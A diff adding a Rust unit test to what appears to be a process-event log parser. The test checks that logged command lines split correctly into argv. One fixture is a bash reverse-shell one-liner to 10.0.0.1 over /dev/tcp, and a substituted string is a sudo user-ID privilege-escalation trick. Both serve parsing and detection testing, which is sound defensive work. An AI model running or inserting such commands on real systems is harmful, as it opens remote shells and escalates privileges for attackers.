@@ -109,3 +109,37 @@ fn other_events_and_non_events() {
     assert_eq!(parse("<Events><x/></Events>"), None);
     assert_eq!(parse("<Event"), None);
 }
+
+#[test]
+fn command_line_is_argv_joined_by_spaces_kept_byte_true() {
+    // argv ["python3", "-c", "print('a  b')"] and ["sh", "-c", "x='1'  \"y\""]: the
+    // quotes are argument text, the double space belongs to the -c string.
+    for (logged, argv) in [
+        (
+            "python3 -c print('a  b')",
+            &["python3", "-c", "print('a  b')"][..],
+        ),
+        (
+            "nohup bash -c bash -i >& /dev/tcp/10.0.0.1/9 0>&1",
+            &["nohup", "bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/9 0>&1"][..],
+        ),
+        ("sh -c x='1'  \"y\"", &["sh", "-c", "x='1'  \"y\""][..]),
+        (
+            "/usr/bin/nohup /tmp/it's",
+            &["/usr/bin/nohup", "/tmp/it's"][..],
+        ),
+    ] {
+        let escaped = logged
+            .replace('&', "&amp;")
+            .replace('<', "&lt;")
+            .replace('>', "&gt;")
+            .replace('"', "&quot;");
+        let xml = EID1.replace("sudo -u#-1 id", &escaped);
+        let Some(Event::Process(p)) = to_event(&parse(&xml).unwrap(), "", None, provenance())
+        else {
+            panic!()
+        };
+        assert_eq!(p.command_line, logged, "kept as logged");
+        assert_eq!(p.argv, argv, "{logged}");
+    }
+}
